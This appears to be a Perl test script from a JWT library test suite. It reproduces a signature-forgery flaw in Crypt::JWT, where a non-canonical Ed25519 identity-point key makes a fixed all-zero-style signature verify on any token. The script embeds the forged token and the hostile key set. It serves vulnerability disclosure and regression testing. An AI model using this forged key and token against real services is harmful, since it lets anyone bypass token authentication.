#!/usr/bin/env perl
# Finding: Crypt::JWT 0.034 (on CryptX 0.077) loads an Ed25519 public key that is not a
# canonical point encoding, the identity point written with y = p + 1, and then accepts the
# trivial signature R = identity, S = 0 on any token: every message verifies. decode_jwt hands
# the OKP JWK to Crypt::PK::Ed25519->new (_prepare_ed25519_key) without checking the key, and
# CryptX's verification accepts it; decode_jwt has no option that validates keys.
#
# RFC 8032 §5.1.3: decoding a point fails when y >= p; RFC 8037 §3.1.2 verifies with RFC 8032.
# A key set holding such a key (a broken or hostile key endpoint) lets anyone forge tokens: the
# signature here is 64 fixed bytes, made without any private key.
#
# Reproduces: eddsa/key-non-canonical-identity-y-p-plus-1 (forgery)
#
# Run: perl adapters/crypt-jwt/repro-eddsa-key.pl   (Debian's libcrypt-jwt-perl and
# libjson-xs-perl; no network). Configured exactly as adapters/crypt-jwt/adapter.pl for this
# vector's profile (rfc9068, algorithms EdDSA); the token is valid from 2001 to 2100, so the
# system clock (Crypt::JWT has no clock injection) does not matter.

use strict;
use warnings;

BEGIN { $ENV{PERL_JSON_BACKEND} = 'JSON::XS' }

use Crypt::JWT qw(decode_jwt);

my $id = 'eddsa/key-non-canonical-identity-y-p-plus-1';
my $token = 'eyJhbGciOiJFZERTQSIsImtpZCI6ImVkMjU1MTkiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xpZW5'
  . '0X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBsZSIsI'
  . 'mp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
  . 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA';
my $jwks = '{"keys":[{"alg":"EdDSA","crv":"Ed25519","kid":"ed25519","kty":"OKP","use":"sig","x":"7v_______________________'
  . '________________38"}]}';
my $issuer = 'https://issuer.example';
my %audiences = ('https://api.example' => 1);
my $present = sub { 1 };

my $claims = eval {
  decode_jwt(
    token => $token,
    kid_keys => $jwks,
    accepted_alg => ['EdDSA'],
    verify_iss => $issuer,
    verify_aud => sub {
      my ($aud) = @_;
      return scalar grep { defined && !ref && $audiences{$_} } ref $aud eq 'ARRAY' ? @$aud : ($aud);
    },
    verify_sub => $present,
    verify_jti => $present,
    verify_exp => 1,
    verify_nbf => undef,
    verify_iat => 1,
    leeway => 0,
    decode_payload => 1,
    ignore_signature => 0,
    ignore_claims => 0,
  );
};
if (!$claims) {
  my $error = $@ || 'no claims';
  $error =~ s/\s+\z//;
  print "NOT REPRODUCED $id: Crypt::JWT $Crypt::JWT::VERSION rejected the token ($error)\n";
  exit 1;
}
print "REPRODUCED $id: Crypt::JWT $Crypt::JWT::VERSION loaded the non-canonical identity key and accepted"
  . " the signature R = identity, S = 0 (sub $claims->{sub})\n";
exit 0;
